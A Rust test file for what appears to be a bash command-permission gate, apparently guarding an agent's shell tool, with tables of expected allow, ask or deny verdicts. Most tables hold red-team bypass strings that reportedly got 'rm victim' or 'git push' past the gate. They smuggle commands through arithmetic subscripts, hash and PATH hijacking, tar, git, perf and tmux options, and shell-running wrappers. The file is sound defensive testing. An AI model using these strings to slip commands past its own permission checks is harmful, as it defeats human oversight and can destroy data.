    ("set -- x; echo $(( $1 ))", Q),
    // A variable the script never assigns: its value comes from elsewhere
    // (the environment, or bash: `read` fills REPLY, `:` fills `_`).
    ("(( \"$count\" > 0 )) && echo yes", Q),
    ("echo \"${arr[$((i+1))]}\"", Q),
    ("read <<< x; echo $(( REPLY ))", Q),
    ("REPLY=1; read <<< x; echo $(( REPLY ))", Q),
    ("[[ $HOME -eq 1 ]]", Q),
    ("echo ${arr[HOME]}", Q),
    // Everyday arithmetic on variables the script gives numbers.
    ("echo $((1+2))", A),
    ("for i in 1 2 3; do echo $((i*2)); done", A),
    ("for i in {1..10}; do echo $((i*2)); done", A),
    ("for ((i=0;i<3;i++)); do echo $i; done", A),
    ("n=5; echo $((n+1))", A),
    ("i=0; while [ $i -lt 3 ]; do i=$((i+1)); done", A),
    ("n=0; let n=n+1; (( n > 0 )) && echo $n", A),
    ("declare -i n=5; n+=3; echo $n", A),
    ("echo ${#arr[@]} ${arr[0]} ${s:0:3} $(( ${#s} + $# + RANDOM % 6 ))", A),
    ("declare -A m; m[key]=1; echo \"${m[key]}\" \"${m[$k]}\"", A),
    ("i=0; ((i++))", A),
    // A counter never set first counts from what the environment gave.
    ("((i++))", Q),
    // A subscript where a built-in takes a name is arithmetic too.
    ("x=$; v=\"a[${x}(rm victim)]\"; unset 'a[v]'", Q),
    ("x=$; v=\"a[${x}(rm victim)]\"; [[ -v a[v] ]]", Q),
    ("x=$; v=\"a[${x}(rm victim)]\"; read 'a[v]' <<< 1", Q),
    ("unset 'a[0]'; declare -A m; unset 'm[k]'", A),
    ("bash -c 'v=$(cat f); echo $((v))'", Q),
    // Arithmetic assigns only where an assignment operator follows a name:
    // `$HOME`, `${#PATH}`, `HOME == 1` expand or compare.
    ("[[ ${#PATH} -gt 0 ]]", A),
    ("n=1; (( n == 1 )) && echo $((n >= 1)) ${#PATH}", A),
    // man runs its pager and browser on the terminal.
    ("man -P 'rm victim' ls", Q),
    ("man --pager=rm ls", Q),
    ("man --pag=rm ls", Q),
    ("man -aP rm ls", Q),
    ("man --html=rm ls", Q),
    ("man -H ls", Q),
    ("man -C conf ls", Q),
    ("MANPAGER='rm victim' man ls", Q),
    ("MANOPT='--pager=rm' man ls", Q),
    ("SYSTEMD_PAGER='rm victim' systemctl status", Q),
    ("man ls; man 3 printf; man -k printf", A),
    // A word only known at run time may be an option that runs a program,
    // quoted or not ("$f" may hold `--compress-program=rm`); `--` or a
    // literal start rules that out.
    ("f=--filter; split -n2 $f=\"rm victim\" file", Q),
    ("f=--compress-program=rm; sort $f x", Q),
    ("f=--compress-program=rm; sort \"$f\"", Q),
    ("sort -u \"$f\"", Q),
    ("sort *", Q),
    ("sdiff -o out a \"$b\"", Q),
    ("diff3 a \"$b\" c", Q),
    ("gpg --verify \"$sig\"", Q),
    ("git send-email \"$f\" x.patch", Q),
    ("sort -- \"$f\"", A),
    ("sort -u ./\"$f\" out/*.txt", A),
    ("sort -- *.txt", A),
    ("split -l 100 big.txt part_", A),
    ("gpg --verify -- \"$sig\"", A),
];

#[test]
fn default_allow_table() {
    assert_table(&policy_from(DEFAULT_ALLOW, "allow.toml"), DEFAULT_ALLOW_TABLE);
}

/// An allowlist policy (every command not named asks), as a careful operator
/// writes one. Rows from a second red-team pass: each ran its command on
/// bash 5.2 while the gate allowed it, before the fix.
const ALLOWLIST: &str = r#"
version = 1
default = "ask"
bash_allow_prefixes = ["ls", "git status", "git diff", "git log", "cat", "grep", "python3 -m pytest", "echo",
  "printf", "cargo test", "valgrind", "tar -xf", "cp", "sed", "mkdir", "wc", "find"]
require_approval_for = ["git push"]
deny = ["rm", "curl"]
"#;

/// (script, expected verdict) under `ALLOWLIST`.
const ALLOWLIST_TABLE: &[(&str, Verdict)] = &[
    // --- `hash -p` in any spelling; the command table through `${...:=}` and `printf -vNAME` ----
    ("hash -rp /bin/rm ls; ls victim", Q),
    ("hash -p/bin/rm ls; ls victim", Q),
    (": ${BASH_CMDS[ls]:=/bin/rm}; ls victim", Q),
    (": ${BASH_CMDS[ls]=/bin/rm}; ls victim", Q),
    ("printf -vBASH_CMDS[ls] /bin/rm; ls victim", Q),
    ("printf -vPATH x; ls", Q),
    // --- a here-document line that starts with its delimiter (bash ends `$(` there) ---------
    ("echo $(cat <<Q\nQ)\nrm victim\nQ\n)", Q),
    // --- options that change how bash reads what follows ---------------------------------------
    ("set -o history -H\necho x\necho \"!!:2\"", Q),
    ("set -k; git status GIT_CONFIG_COUNT=1", Q),
    ("bash -kc 'git status X=1'", Q),
    // --- a process substitution inside an extglob pattern --------------------------------------
    ("[[ x == @(y|<(rm victim)) ]]", Q),
    ("shopt -s extglob; echo @(x|<(rm victim))", Q),
    // --- `((` that bash runs as nested subshells -------------------------------------------------
    ("((rm -f ./victim) )", Q),
    ("((\"rm\" \"victim\") )", Q),
    ("((true && rm ./victim) )", Q),
    ("((rm$IFS./victim) )", Q),
    ("((git -C . push \"origin\" \"main\") )", Q),
    // --- a value with a substitution, evaluated again through a variable -------------------------
    ("x='$(rm victim)'; let \"a[$x]\"", Q),
    ("x='$(rm victim)'; y=\"a[$x]\"; echo $((y))", Q),
    ("read x <<< '$(rm victim)'; echo $((a[x]))", Q),
    ("read -r x <<'Q'\na[$(rm victim)]\nQ\necho $((x))", Q),
    ("make -f - <<< $'all:\\n\\trm victim'", Q),
    ("cat <<'EOF' > s.sh\necho $(date)\nEOF", A),
    // --- a function runs only when called by its bare name, in its own shell --------------------
    ("perl() { :; }; command perl -e 1", Q),
    ("perl() { :; }; env perl -e 1", Q),
    ("perl() { :; }; /usr/bin/perl -e 1", Q),
    ("perl() { :; }; unset -f perl; perl -e 1", Q),
    ("perl() { :; }; bash -c 'perl -e 1'", Q),
    ("bash -c 'perl -e 1'; perl() { :; }", Q),
    ("perl() { :; }; find . -exec perl -e 1 \\;", Q),
    // --- xargs options with optional values; tar and git options that run programs --------------
    ("echo x | xargs --replace rm victim", D),
    ("echo x | xargs --eof rm victim", D),
    ("tar -xf x --checkpoint=1 --checkpoint-act=exec='rm victim'", Q),
    ("tar -xf x -I'git push origin main;:'", Q),
    ("tar -xf x --use-compress-prog=sh", Q),
    ("git grep --no-index -O'rm' data", Q),
    ("git log --oneline; git rebase -x 'rm victim' HEAD~1", Q),
    ("compgen -W '$(rm victim)' x", Q),
    ("capsh -- -c 'rm victim'", Q),
    ("ed -s f <<< '!rm victim'", Q),
    // --- a third pass -------------------------------------------------------------------------------
    ("jobs -x rm victim", Q),
    ("jobs -x git push origin main", Q),
    ("((rm${IFS}victim) )", Q),
    ("cat <<EOF\nEO\\\nF\nrm victim\nEOF", Q),
    ("cat <<EOF\n$\\\n(git push origin main)\nEOF", Q),
    ("echo \"`echo \\\"'\\\"; rm victim; echo \\\"'\\\"`\"", Q),
    ("shopt -os history histexpand", Q),
    ("shopt -os keyword; git status X=1", Q),
    ("[[ $'a[$(rm victim;:\\x80)]' -eq 0 ]]", Q),
    ("x=a; let \"b[$x]\"", Q),
    ("read -r x <<EOF\na[\\$(rm victim)]\nEOF\n: $((x))", Q),
    ("valgrind -q sh -c 'rm victim'", Q),
    ("valgrind -q git -C . push origin main", Q),
    ("valgrind -q $(echo rm) victim", Q),
    ("find . -maxdepth 0 {-exec,rm} victim \\;", Q),
    ("find . $(echo -exec) git push origin main \\;", Q),
    ("hash {-p,/bin/rm} ls; ls victim", Q),
    ("echo rm victim | xargs env", Q),
    ("echo push origin main | xargs git", Q),
    ("echo 'rm victim' | xargs -I A -I B sh -c B", Q),
    ("find . -exec env -u + rm victim \\;", D),
    ("echo 'rm victim' | bash /dev//stdin", Q),
    ("echo 'rm victim' | sh /proc/self/root/dev/stdin", Q),
    ("echo 'rm victim' | bash ../../../../dev/stdin", Q),
    ("git ls-remote --upload-pack='rm victim;git-upload-pack' .", Q),
    ("git fetch --upload-pack=x origin", Q),
    ("git clone -u x . y", Q),
    ("git grep --no-index --ope='rm victim;:' x", Q),
    ("git grep -iO'rm' x", Q),
    ("git rebase -qx 'rm victim' HEAD~1", Q),
    ("tar cfI gzip 'rm victim;:' victim", Q),
    ("tar -xf x.tgz -I $'gzip\\nrm victim\\n:'", Q),
    ("TAR_OPTIONS='--checkpoint=1' tar -xf victim", Q),
    ("cargo test --config 'target.x.runner=[\"sh\"]'", Q),
    ("CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER='rm victim' cargo test", Q),
    ("perl() { :; }; unset -f {perl,x}; perl -e 1", Q),
    ("perl() { :; }; g() { perl -e 1; }; unset -f perl; g", Q),
    ("f() { unset -f perl; }; perl() { :; }; f; perl -e 1", Q),
    ("{ perl() { :; }; } < /nonexistent; perl -e 1", Q),
    // --- everyday commands that must stay allowed --------------------------------------------------
    (
        "cat > check.sh <<'EOF'\nif [ -n \"$(git status --porcelain)\" ]; then echo dirty; fi\nEOF",
        A,
    ),
    ("bash -c '[ -n \"$(git status --porcelain)\" ] && echo dirty'", A),
    ("echo 'docs: mention [`foo`]'", A),
    ("sed -i 's/\\[ \"$(uname)\" \\]/true/' x.sh", A),
    ("i=0; echo \"${arr[$((i+1))]}\"", A),
    ("n=$#; x=${arr[$(( n - 1 ))]}; echo $x", A),
    ("count=3; (( \"$count\" > 0 )) && echo yes", A),
    ("ls | xargs -0I{} cp {} dest/", A),
    ("ls | xargs -rI {} cp {} dest/", A),
    ("ls | xargs -i echo {}", A),
    ("tar -xf big.tar --checkpoint=1000", A),
    ("find . -name \"$pattern\" -type f", A),
    ("find . -name '*.py' -exec grep -l \"$pattern\" {} +", A),
    ("find . -newermt \"$since\" -type f", A),
    ("cargo test -- --config x.toml", A),
    ("git log --oneline | wc -l", A),
    // --- a fourth pass -----------------------------------------------------------------------------
    ("find \"$dir\" -name x", Q),
    ("echo ${x:-$((rm victim) )}", D),
    ("echo ${a[$((rm victim) )]}", Q),
    ("x='a[$((rm victim) )]'; echo $((x))", Q),
    ("set -$(echo k); git status X=1", Q),
    ("hash -$(echo p) /bin/rm ls; ls victim", Q),
    ("tar xf ../t.tar --to-command=\"rm $(echo victim)\"", Q),
    ("find victim ! -name -name $(echo -exec) rm {} \\;", Q),
    ("find \"$(echo -name)\" victim \"$(echo -exec)\" rm {} \\;", Q),
    ("find . -name victim -exe? rm {} \\;", Q),
    ("tar xf ../t.tar --to-c*", Q),
    ("printf -v z %s%s a '[$(rm victim)]'; echo $((z))", Q),
    ("git log --oneline -5 && git diff --stat", A),
    ("echo '- [ ] run `cargo test`'", A),
    ("printf '%s\\n' '[ok] `x`'", A),
    ("grep -n 'a\\[$(' f", A),
    ("bash -lc 'setup() { mkdir -p b; }; setup && cargo test'", A),
    ("ls | xargs grep -Ir TODO", A),
    ("ls | xargs sed -ie s/a/b/", A),
    ("ls | xargs -I{} cp {} dest/", A),
    ("valgrind ./a.out", A),
    ("tar -xf a.tar.zst -I zstd", A),
    ("i=0; ((i++))", A),
    // A counter never set first counts from what the environment gave.
    ("((i++))", Q),
    ("for ((i=0;i<3;i++)); do echo $i; done", A),
    ("echo $(( ${#x} + 1 ))", A),
    ("echo {a,b} a{1..3}", A),
    ("f() { ls; }; f; f | wc -l", A),
    ("x=$(ls); echo \"$x\"", A),
    ("cat <<EOF\nline\nEOF", A),
    // --- fifth red-team pass ------------------------------------------------------------------
    ("mkdir 10; cp /bin/rm 10/ls; echo {PATH}>/dev/null; ls victim", Q),
    ("cp /bin/rm ls; unset PATH; ls victim", Q),
    ("mkdir 1; cp /bin/rm 1/ls; ((PATH=1)); ls victim", Q),
    ("mkdir 1; cp /bin/rm 1/ls; let PATH=1; ls victim", Q),
    ("mkdir 1; cp /bin/rm 1/ls; echo $[PATH=1] >/dev/null; ls victim", Q),
    ("cp /bin/rm 1; ((BASH_CMDS[ls]=1)); ls victim", Q),
    // A value slot whose word splits into more words at run time.
    ("find victim -name $(echo \"victim -exec rm {} ;\")", Q),
    ("find victim -exec ls $(echo '{} ; -exec rm {}') \\;", Q),
    ("find ../victim ! -name * rm {} \\;", Q),
    (
        "tar -xf $(echo 'victim --checkpoint=1 --checkpoint-action=exec=rm${IFS}victim')",
        Q,
    ),
    (
        "valgrind -q --tool=none /usr/local/libexec/git-core/git-push origin HEAD:main",
        Q,
    ),
    // Everyday commands that stay allowed.
    ("find . -name '*.rs' -exec grep -n TODO {} +", A),
    ("find . -name \"$x\"", A),
    ("tar -xf \"$archive\"", A),
    ("unset x; ls", A),
    ("((n=1)); echo $n", A),
];

/// An allowlist that names programs which run a command string with a
/// shell: what the string runs still meets the deny and ask rules.
const WRAPPERS_ALLOWED: &str = r#"
version = 1
default = "ask"
bash_allow_prefixes = ["flock", "script", "su", "sg", "hyperfine", "parallel", "expect", "gdb", "tmux", "ls",
  "echo", "perf"]
require_approval_for = ["git push"]
deny = ["rm", "curl"]
"#;

/// (script, expected verdict) under `WRAPPERS_ALLOWED`.
const WRAPPERS_ALLOWED_TABLE: &[(&str, Verdict)] = &[
    ("flock lock -c 'rm -rf victim'", D),
    ("flock lock --command 'git push origin main'", Q),
    ("script -qc 'rm -rf victim' /dev/null", D),
    ("script -q --command='rm victim' /dev/null", D),
    ("su -c 'rm victim'", D),
    ("su -lc 'rm victim'", D),
    ("su root -c 'rm victim'", D),
    ("sg users 'rm -rf victim'", D),
    ("sg users -c 'rm -rf victim'", D),
    ("hyperfine 'rm -rf victim'", D),
    ("hyperfine -w 3 --prepare 'rm victim' 'ls'", D),
    ("hyperfine -L x ls '{x} victim'", Q),
    ("parallel 'rm {}' ::: victim", Q),
    ("expect -c 'spawn rm victim'", Q),
    ("gdb -batch -ex 'shell rm victim'", Q),
    ("gdb -batch -iex 'shell rm victim' ./a.out", Q),
    ("tmux new-session -d 'rm -rf victim'", Q),
    ("perf stat rm victim", D),
    // A string run by $SHELL, which may be any shell, asks.
    ("flock lock -c 'ls'", Q),
    ("script -qc 'ls' /dev/null", Q),
    ("su", Q),
    ("script /dev/null", Q),
    // Still allowed: what the rules name, read as the shell that runs it reads it.
    ("sg users 'ls -la'", A),
    ("hyperfine -w 3 'ls' 'ls -la'", A),
    ("hyperfine --runs 5 --export-json out.json 'echo hi'", A),
    ("gdb -batch ./a.out", A),
    ("expect run.exp", A),
    ("flock lock ls", A),
    ("perf stat ls", A),
    // perf runs `--pre`/`--post` with `sh -c`, in any abbreviation;
    // `--objdump`, `--addr2line` and `--exec-path` name programs it runs.
    ("perf stat --pre='rm victim' true", D),
    ("perf stat --pre=rm true", D),
    ("perf stat --post='rm victim' true", D),
    ("perf stat --pre 'rm victim' true", D),
    ("perf stat --po 'rm victim' true", D),
    ("perf report --objdump=rm", Q),
    ("perf annotate --addr2line=./x", Q),
    ("perf --exec-path=. stat ls", Q),
    // hyperfine's clap drops the `=` after a short option.
    ("hyperfine -r1 -p='rm victim' true", D),
    ("hyperfine -r1 -s=rm true", D),
    ("hyperfine -c='rm victim' true", D),
    ("hyperfine -r 3 -p'ls -la' 'ls'", A),
    ("perf stat -e cycles -- ls", A),
    ("perf record -g -o perf.data ls", A),
    ("perf report -i perf.data --stdio", A),
    // tmux commands that only report are let through; the rest asks.
    ("tmux ls", A),
    ("tmux list-windows -F '#{window_name}'", A),
    ("tmux has-session -t main", A),
    ("tmux -L work display-message -p '#S'", A),
    ("tmux capture-pane -p -t 0", A),
    ("tmux list-sessions -F '#(rm victim)'", Q),
    ("tmux display-message -p '#(rm victim)'", Q),
    ("tmux display-message '#S'", Q),
    ("tmux ls \\; new-window 'rm victim'", Q),
    ("tmux ls ';' kill-server", Q),
    ("tmux -f conf ls", Q),
    ("tmux run-shell 'ls'", Q),
    ("tmux $cmd", Q),
];

#[test]
fn wrappers_allowed_table() {
    assert_table(&policy_from(WRAPPERS_ALLOWED, "wrappers.toml"), WRAPPERS_ALLOWED_TABLE);
}

#[test]
fn allowlist_table() {
    assert_table(&policy_from(ALLOWLIST, "allowlist.toml"), ALLOWLIST_TABLE);
}

/// The allowlist of a review of the arithmetic rule: `E` below is the
/// prefix `p="\$"; w1="a[${p}(rm y)]";`, which gives w1 the value
/// `a[$(rm y)]`, which bash runs when it evaluates w1 as arithmetic. Each
/// attack row ran rm on bash 5.2 while the gate allowed it, or crashed it.
const REVIEW: &str = r#"
version = 1
default = "ask"
bash_allow_prefixes = ["echo", "printf", "cat", "wc", "sort", "grep", "ls", "test", "read", "true", "head", "tail",
  "tmux ls", "tmux list-sessions", "wget", "env", "bash", ":", "declare", "wait", "let"]
deny = ["rm", "curl"]
"#;

/// (script, expected verdict) under `REVIEW`; the attacks are judged under
/// `DEFAULT_ALLOW` too.
const REVIEW_TABLE: &[(&str, Verdict)] = &[
    ("[[ ${€} -eq 1 ]]", Q),
    ("(( ${€} ))", Q),
    ("let \"x=${€}\"", Q),
    ("echo ${a[${€}]}", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; w=0; x=1; [[ w$x -eq 0 ]]", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; w=0; x=1; [[ w\"$x\" -eq 0 ]]", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; w=0; x=1; echo ${w1:w$x}", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; w=0; x=1; a=(1); echo ${a[w$x]}", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; w=0; x=1; [[ -v a[w$x] ]]", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; w=0; x=1; test -v \"a[w$x]\"", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; w=0; x=1; echo $(( ${x/#/w} ))", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; w=0; x=1; echo $(( w''$x ))", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; w=0; x=1; echo $(( $'w'$x ))", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; w=0; x=1; (( ${x}w ))", Q),
    (
        "p=\"\\$\"; w1=\"a[${p}(rm y)]\"; w=0; x=1; for (( i=w$x; i<1; i++ )); do :; done",
        Q,
    ),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; s=abc; echo ${s/a/$((w1))}", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; echo \"${u:-$((w1))}\"", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; s=abc; x=${s/$((w1))/}", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; s=abc; echo ${s/a/${s:w1}}", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; s=abc; echo ${s/a/${s[w1]}}", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; s=abc; [[ ${s/a/$((w1))} == x ]]", Q),
    (": ${u:-${BASH_CMDS[ls]:=/bin/rm}}; ls x", Q),
    (
        "p=\"\\$\"; w1=\"a[${p}(rm y)]\"; s=abc; echo ${s/a/${v:=$w1}}; echo $((v))",
        Q,
    ),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; i=$w1; a=([i]=1)", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; i=$w1; a+=([i]=1)", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; x=$w1; [[ -v $x ]]", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; x=$w1; [[ -v \"$x\" ]]", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; x=$w1; test -v \"$x\"", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; x=$w1; [ -v \"$x\" ]", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; i=$w1; printf -v \"a[i]\" %s 1", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; i=$w1; wait -p 'a[i]'", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; ( declare -A m ); m[$w1]=1", Q),
    (
        "p=\"\\$\"; w1=\"a[${p}(rm y)]\"; bash -c \"declare -A m\"; echo ${m[$w1]}",
        Q,
    ),
    (
        "p=\"\\$\"; w1=\"a[${p}(rm y)]\"; f() { declare -A m; }; echo ${m[$w1]}",
        Q,
    ),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; g() { local -A m; }; m[$w1]=1", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; declare -A m; unset m; m[$w1]=1", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; m[$w1]=1; declare -A m", Q),
    (
        "p=\"\\$\"; w1=\"a[${p}(rm y)]\"; export w1; v=0; env v=w1 bash -c \"echo \\$((v))\"",
        Q,
    ),
    (
        "p=\"\\$\"; w1=\"a[${p}(rm y)]\"; export w1; v=0; sudo v=w1 bash -c \"echo \\$((v))\"",
        Q,
    ),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; OLDPWD=$w1; [[ ~- -eq 0 ]]", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; x=$w1; echo \"${!x}\"", Q),
    ("printf 'run-shell \"rm y\"\\n' | tmux -C ls", Q),
    ("printf 'run-shell \"rm y\"\\n' | tmux -CC ls", Q),
    ("wget --use-askpass=rm -O /dev/null http://x/", Q),
    ("wget --use-ask=rm -O /dev/null http://x/", Q),
    ("wget -e use_askpass=rm -O /dev/null http://x/", Q),
    ("wget -qe use_askpass=rm http://x/", Q),
    ("wget --execute=use_askpass=rm http://x/", Q),
    ("u=--use-askpass=rm; wget \"$u\" -O /dev/null http://x/", Q),
    ("((i++)); echo $((i))", Q),
    ("x=$((x+1)); echo $((x))", Q),
    ("x+=1; echo $((x))", Q),
    ("((x = x + 1)); echo $((x))", Q),
    ("let x++; echo $((x))", Q),
    ("i=0; ((i++)); echo $((i))", A),
    ("for ((i=0;i<3;i++)); do echo $i; done", A),
    ("n=0; n=$((n+1)); echo \"$n\"; echo $((n*2))", A),
    ("x=1; y=2; [[ $x -eq 1 && ${#y} -gt 0 ]]", A),
    ("i=0; a=(1 2); echo \"${a[$i]}\" \"${a[i+1]}\"", A),
    (
        "echo \"${f%.txt}\" \"${f#$dir/}\" \"${x:-\"$HOME\"}\" ${x:-$HOME} ${s/a/b}",
        A,
    ),
    ("a=(1 2); [[ -v a[1] ]] && [[ -v HOME ]] && test -v PATH", A),
    ("printf -v y %s 1; echo \"$y\"", A),
    ("declare -A m; m[$k]=1; echo \"${m[$k]}\"", A),
    ("a=([0]=1 [1]=2); echo \"${!a[@]}\"", A),
    ("wget -q -O out.html https://example.com/", A),
    ("wget -nv -Oindex.html -- \"$url\"", A),
    ("tmux ls", A),
    ("tmux -C ls", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; (( w$((1)) ))", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; echo $(( w$[1] ))", Q),
    ("y=$x; echo $((y))", Q),
    ("p=\"\\$\"; w1=\"a[${p}(rm y)]\"; x=$w1; y=$x; echo $((y))", Q),
    ("x=$y; y=$x; echo $((y))", Q),
    (
        "p=\"\\$\"; w1=\"a[${p}(rm y)]\"; arr=(3 1 2); arr[1]=$w1; echo $(( arr[0] ))",
        Q,
    ),
    ("arr=(3 \"$w\" 2); echo $(( arr[0] ))", Q),
    ("arr+=(1); echo $(( arr[0] ))", Q),
    // Copies of integers and arrays of integer literals are integers.
    ("x=1; y=$x; echo $((y))", A),
    ("x=1; y=\"${x}\"; echo $((y + 1))", A),
    ("arr=(3 1 2); echo $(( arr[0] + arr[1] ))", A),
    ("arr=([0]=3 [1]=1); echo $(( arr[0] ))", A),
];

#[test]
fn review_table() {
    assert_table(&policy_from(REVIEW, "review.toml"), REVIEW_TABLE);
    let attacks: Vec<(&str, Verdict)> = REVIEW_TABLE
        .iter()
        .filter(|(s, v)| *v != A && !s.contains("tmux"))
        .copied()
        .collect();
    assert_table(&policy_from(DEFAULT_ALLOW, "allow.toml"), &attacks);
}
